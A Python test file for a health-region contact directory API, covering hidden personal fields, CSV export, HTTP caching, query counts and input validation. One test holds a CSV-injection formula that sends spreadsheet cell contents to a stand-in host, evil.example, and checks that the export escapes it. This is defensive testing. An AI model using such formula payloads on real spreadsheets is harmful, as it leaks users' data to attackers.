"""The public contact directory (API.md, For the website and integrators): what it shows and hides, its
CSV, its caching (ETag, 304, Cache-Control, Last-Modified), that a write on another worker is seen,
and that it costs the same few SQL statements whatever the number of councils and seats."""

import asyncio
import csv
import io
import uuid
from datetime import date, datetime
from email.utils import parsedate_to_datetime
from typing import Any

import httpx
import pytest
from sqlalchemy import event, update

from app.contract.directory import CSV_COLUMNS
from app.main import create_app
from app.settings import Settings
from app.storage.database import Database
from app.storage.tables import Council
from tests.api.test_seat_walkthroughs import HELSE_NORD_HF, START, Registry, hn_seat, new_person
from tests.conftest import StatementCounter
from tests.tokens import Tokens

CACHE_CONTROL = "public, max-age=300, stale-while-revalidate=60"
KARI = {
    "name": "Kari Nordmann",
    "title": "overlege",
    "hpr_number": "9144889",
    "email": "kari.nordmann@unn.no",
    "phone": "+47 77 62 60 00",
    "publish_email": True,
}
OLA = {
    "name": "Ola Skjult",
    "title": "overlege",
    "hpr_number": "8123456",
    "email": "ola.skjult@nordlandssykehuset.no",
    "phone": "+47 75 53 40 00",
    "publish_email": False,
}


async def staffed(registry: Registry, tokens: Tokens) -> str:
    """Helse Nord's council of anaesthesiology: Kari (published e-mail) leads, Ola (unpublished) sits
    for Nordlandssykehuset with a deputy, and two more trusts are represented."""
    nord = await registry.council(region="helse-nord")
    kari = await registry.appointed(
        nord, hn_seat("unn", "x") | {"person": KARI, "deputy": new_person("Vera Vik")}, tokens.trust("unn")
    )
    await registry.appointed(
        nord, hn_seat("nordlandssykehuset", "x") | {"person": OLA}, tokens.trust("nordlandssykehuset")
    )
    for trust in HELSE_NORD_HF[2:]:
        await registry.appointed(nord, hn_seat(trust, f"Spesialist {trust}"), tokens.trust(trust))
    elected = await registry.elect(
        nord, tokens.regut("helse-nord"), leader=kari["person"]["id"], effective_on=START
    )
    assert elected.status_code == 200, elected.text
    return nord


def council_in(directory: dict[str, Any], council: str) -> dict[str, Any]:
    [found] = [c for c in directory["items"] if c["id"] == council]
    return found


async def test_the_directory_shows_who_to_contact_and_nothing_personal(
    registry: Registry, tokens: Tokens
) -> None:
    """API.md: per council its contacts, leader, representatives with trust, role and deputy, published
    e-mails only, and the RegUt to contact. No HPR number, no phone, no unpublished e-mail."""
    nord = await staffed(registry, tokens)
    response = await registry.client.get("/v1/directory", params={"specialty": "anestesiologi"})
    assert response.status_code == 200, response.text
    for hidden in ("hpr_number", "9144889", "phone", "62 60 00"):
        assert hidden not in response.text
    assert OLA["email"] not in response.text
    directory = response.json()
    assert {c["kind"] for c in directory["items"]} == {"regional", "interregional"}
    assert len(directory["items"]) == 5
    council = council_in(directory, nord)
    assert council["leader"] == {
        "id": council["leader"]["id"],
        "name": "Kari Nordmann",
        "title": "overlege",
        "email": "kari.nordmann@unn.no",
    }
    assert council["regut"] == {
        "region": "helse-nord",
        "name": "Regionalt utdanningssenter for LIS Helse Nord (RegUt Nord)",
        "email": "regut@unn.no",
    }
    seats = {s["trust"]: s for s in council["representatives"]}
    assert set(seats) == set(HELSE_NORD_HF)
    assert seats["unn"]["leadership"] == ["leader"]
    assert seats["unn"]["deputy"] == {"name": "Vera Vik", "title": None, "email": None}
    assert seats["unn"]["trust_name"] == "Universitetssykehuset Nord-Norge HF"
    assert (seats["nordlandssykehuset"]["name"], seats["nordlandssykehuset"]["email"]) == ("Ola Skjult", None)
    interregional = next(c for c in directory["items"] if c["kind"] == "interregional")
    assert interregional["regut"]["region"] == "helse-nord"  # the RegUt responsible for the specialty


async def test_the_directory_lists_the_governance_bodies_and_the_next_meeting(
    registry: Registry, tokens: Tokens
) -> None:
    """Helse Nord's bodies are in the directory like the councils; a council's next scheduled meeting is
    shown until it begins."""
    bodies = await registry.client.get(
        "/v1/directory", params={"region": "helse-nord", "kind": "education_forum"}
    )
    [forum] = bodies.json()["items"]
    assert (forum["specialty"], forum["name"]) == (None, "Regionalt forum for LIS-utdanning, Helse Nord")
    nord = await registry.council(region="helse-nord")
    for day in ("2099-03-01", "2099-09-01"):
        scheduled = await registry.client.post(
            f"/v1/councils/{nord}/meetings",
            json={
                "starts_at": f"{day}T10:00:00+01:00",
                "ends_at": f"{day}T12:00:00+01:00",
                "location": "Bodø",
            },
            headers=tokens.regut("helse-nord"),
        )
        assert scheduled.status_code == 201, scheduled.text
    directory = (await registry.client.get("/v1/directory", params={"specialty": "anestesiologi"})).json()
    meeting = council_in(directory, nord)["next_meeting"]
    assert (meeting["starts_at"], meeting["location"]) == ("2099-03-01T10:00:00+01:00", "Bodø")


async def test_the_csv_has_one_row_per_representative_and_opens_in_excel(
    registry: Registry, tokens: Tokens
) -> None:
    """`GET /v1/directory.csv`, where `Accept: text/csv` and `?format=csv` lead: UTF-8 with a byte-order
    mark (Excel), a header row, one row per representative; a council without representatives is one
    row."""
    nord = await staffed(registry, tokens)
    by_accept = await registry.client.get(
        "/v1/directory",
        params={"specialty": "anestesiologi"},
        headers={"Accept": "text/csv"},
        follow_redirects=True,
    )
    by_format = await registry.client.get(
        "/v1/directory", params={"specialty": "anestesiologi", "format": "csv"}, follow_redirects=True
    )
    direct = await registry.client.get("/v1/directory.csv", params={"specialty": "anestesiologi"})
    assert direct.status_code == 200, direct.text
    assert direct.headers["content-type"] == "text/csv; charset=utf-8"
    assert by_accept.content == by_format.content == direct.content
    assert direct.content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(direct.content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    ours = [r for r in rows if r["council_id"] == nord]
    assert sorted(r["trust"] for r in ours) == sorted(HELSE_NORD_HF)
    (kari,) = [r for r in ours if r["representative_name"] == "Kari Nordmann"]
    assert (kari["email"], kari["leadership"], kari["deputy_name"]) == (
        "kari.nordmann@unn.no",
        "leader",
        "Vera Vik",
    )
    (ola,) = [r for r in ours if r["representative_name"] == "Ola Skjult"]
    assert ola["email"] == ""
    others = [r for r in rows if r["council_id"] != nord]
    assert len(others) == 4
    assert {r["representative_name"] for r in others} == {""}
    assert any("Sør-Øst" in r["regut_name"] for r in others)
    refused = await registry.client.get("/v1/directory", headers={"Accept": "application/xml"})
    assert (refused.status_code, refused.json()["rule"]) == (406, "NOT-ACCEPTABLE")


@pytest.mark.parametrize(
    ("asked", "headers"),
    [
        ({"format": "csv"}, {}),
        ({}, {"Accept": "text/csv"}),
        ({}, {"Accept": "text/csv;q=0.9, application/json;q=0.5"}),
    ],
    ids=["format=csv", "Accept: text/csv", "Accept preferring CSV"],
)
async def test_a_client_asking_the_directory_for_csv_is_sent_to_the_csv_with_every_filter(
    registry: Registry, asked: dict[str, str], headers: dict[str, str]
) -> None:
    """The directory's operation answers JSON only, so that a generated client types it as one thing;
    CSV is `GET /v1/directory.csv`, and a client that asks for CSV here gets `303 See Other` there, its
    filters and delimiter kept and `format` left behind."""
    filters = {
        "region": "helse-nord",
        "specialty": "anestesiologi",
        "kind": "regional",
        "delimiter": "semicolon",
    }
    moved = await registry.client.get("/v1/directory", params=filters | asked, headers=headers)
    assert moved.status_code == 303, moved.text
    assert moved.headers["location"] == (
        "/v1/directory.csv?region=helse-nord&specialty=anestesiologi&kind=regional&delimiter=semicolon"
    )
    assert moved.headers["cache-control"] == "no-store"
    as_json = await registry.client.get("/v1/directory", params=filters | {"format": "json"}, headers=headers)
    assert (as_json.status_code, as_json.headers["content-type"]) == (200, "application/json")


async def test_the_directory_is_cached_publicly_and_revalidated_until_a_write_changes_it(
    registry: Registry, tokens: Tokens
) -> None:
    """Strong ETag and 304; `Cache-Control: public, max-age=300, stale-while-revalidate=60`;
    `Last-Modified` from the newest change it contains; a write gives a new ETag."""
    nord = await staffed(registry, tokens)
    params = {"specialty": "anestesiologi"}
    first = await registry.client.get("/v1/directory", params=params)
    etag = first.headers["etag"]
    assert not etag.startswith("W/")
    assert first.headers["cache-control"] == CACHE_CONTROL
    assert "Accept" in first.headers["vary"]
    modified = parsedate_to_datetime(first.headers["last-modified"])
    assert (datetime.now(modified.tzinfo) - modified).total_seconds() < 120
    again = await registry.client.get("/v1/directory", params=params, headers={"If-None-Match": etag})
    assert (again.status_code, again.content, again.headers["etag"]) == (304, b"", etag)
    csv_etag = (await registry.client.get("/v1/directory.csv", params=params)).headers["etag"]
    assert csv_etag != etag

    seat = (await registry.seats(nord))[0]
    ended = await registry.end(seat["id"], "2027-06-30", tokens.admin())
    assert ended.status_code == 200, ended.text
    changed = await registry.client.get("/v1/directory", params=params, headers={"If-None-Match": etag})
    assert changed.status_code == 200
    assert changed.headers["etag"] != etag
    assert [
        s["ends_on"] for s in council_in(changed.json(), nord)["representatives"] if s["id"] == seat["id"]
    ] == ["2027-06-30"]


async def test_a_write_on_another_worker_is_seen(
    settings: Settings, registry: Registry, tokens: Tokens
) -> None:
    """Two workers on one database: the one that serves a kept answer learns of the other's write
    (PostgreSQL: a notification from the writing transaction; SQLite: by asking on every read), and
    while nothing changed it answers a revalidation without a single SQL statement (PostgreSQL)."""
    reader_database = Database(settings)
    reader_statements: list[str] = []
    event.listen(
        reader_database.engine.sync_engine,
        "before_cursor_execute",
        lambda _conn, _cursor, statement, *_: reader_statements.append(statement),
    )
    reader_app = create_app(settings, reader_database)
    version = reader_app.state.data_version
    await version.start()
    try:
        if reader_database.dialect == "postgresql":
            for _ in range(100):
                if version.listening:
                    break
                await asyncio.sleep(0.05)
            assert version.listening
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=reader_app), base_url="http://registry.test"
        ) as reader:
            params = {"specialty": "anestesiologi"}
            first = await reader.get("/v1/directory", params=params)
            etag = first.headers["etag"]
            await reader.get("/v1/directory", params=params)  # the version it asked for is now known
            reader_statements.clear()
            revalidated = await reader.get("/v1/directory", params=params, headers={"If-None-Match": etag})
            assert revalidated.status_code == 304
            if reader_database.dialect == "postgresql":
                assert reader_statements == []
            else:  # one question: how far the data has changed
                assert [s for s in reader_statements if s != "BEGIN"] == ["SELECT max(id) FROM outbox_event"]

            await staffed(registry, tokens)  # written through the other worker
            seen = None
            for _ in range(100):
                seen = await reader.get("/v1/directory", params=params, headers={"If-None-Match": etag})
                if seen.status_code == 200:
                    break
                await asyncio.sleep(0.02)
            assert seen is not None
            assert seen.status_code == 200
            assert seen.headers["etag"] != etag
    finally:
        await version.stop()
        await reader_database.dispose()


async def test_the_directory_costs_the_same_statements_for_one_council_as_for_all(
    registry: Registry, tokens: Tokens, count_statements: StatementCounter
) -> None:
    """No query per council or per seat: the full directory (223 councils and bodies) costs as many
    SQL statements as one region's council of one specialty. Asked with a token, so that nothing is
    answered from memory."""
    await staffed(registry, tokens)
    reader = tokens.bearer("read")

    async def statements(**params: str) -> int:
        count_statements.statements.clear()
        response = await registry.client.get("/v1/directory", params=params, headers=reader)
        assert response.status_code == 200, response.text
        return len(count_statements)

    one = await statements(specialty="anestesiologi", region="helse-nord")
    everything = await statements()
    assert one == everything
    assert everything <= 10


@pytest.mark.parametrize(
    ("params", "pointer"),
    [
        ({"region": "helse-atlantis"}, "region"),
        ({"specialty": "alkymi"}, "specialty"),
        ({"format": "pdf"}, "format"),
    ],
)
async def test_a_filter_naming_nothing_known_is_refused(
    client: httpx.AsyncClient, params: dict[str, str], pointer: str
) -> None:
    response = await client.get("/v1/directory", params=params)
    assert response.status_code == 422, response.text
    assert pointer in response.text


async def test_a_burst_of_reads_is_served_by_the_pool_without_opening_connections(
    settings: Settings, registry: Registry, tokens: Tokens
) -> None:
    """The read path holds its connections: forty concurrent reads of a worker with ten pooled
    connections open none beyond them (no overflow connections opened and closed under load)."""
    database = Database(settings)
    if database.dialect != "postgresql":
        await database.dispose()
        pytest.skip("SQLite opens no server connections: the pool only matters on PostgreSQL")
    opened: list[object] = []
    event.listen(database.engine.sync_engine, "connect", lambda *_: opened.append(1))
    application = create_app(settings, database)
    reader = tokens.bearer("read")
    try:
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=application), base_url="http://registry.test"
        ) as client:
            await client.get("/v1/directory", headers=reader)
            responses = await asyncio.gather(
                *(
                    client.get("/v1/directory", params={"region": "helse-nord"}, headers=reader)
                    for _ in range(40)
                )
            )
        assert {r.status_code for r in responses} == {200}
        assert len(opened) <= settings.db_pool_size
    finally:
        await database.dispose()


async def test_a_typed_formula_stays_text_in_the_csv_and_a_dissolved_council_leaves_the_directory(
    registry: Registry, tokens: Tokens, clean_database: Database
) -> None:
    """A name is what a trust typed: opened in a spreadsheet, it must not run (OWASP CSV injection). A
    council dissolved before today has nobody to contact."""
    nord = await registry.council(region="helse-nord")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Kari")'
    await registry.appointed(nord, hn_seat("unn", "x") | {"person": {"name": formula}}, tokens.trust("unn"))
    table = await registry.client.get("/v1/directory.csv", params={"specialty": "anestesiologi"})
    rows = list(csv.DictReader(io.StringIO(table.content.decode("utf-8-sig"))))
    assert [r["representative_name"] for r in rows if r["council_id"] == nord] == ["'" + formula]

    vest = await registry.council(region="helse-vest")
    async with clean_database.unit_of_work() as session:  # established in 2025, not at set-up today
        await session.execute(
            update(Council).where(Council.id == uuid.UUID(vest)).values(established_on=date(2025, 1, 1))
        )
    etag = (await registry.client.get(f"/v1/councils/{vest}", headers=tokens.admin())).headers["etag"]
    dissolved = await registry.client.patch(
        f"/v1/councils/{vest}",
        json={"dissolved_on": "2026-01-31"},
        headers=tokens.admin() | {"If-Match": etag},
    )
    assert dissolved.status_code == 200, dissolved.text
    listed = (await registry.client.get("/v1/directory", params={"specialty": "anestesiologi"})).json()
    assert vest not in {c["id"] for c in listed["items"]}
    assert nord in {c["id"] for c in listed["items"]}
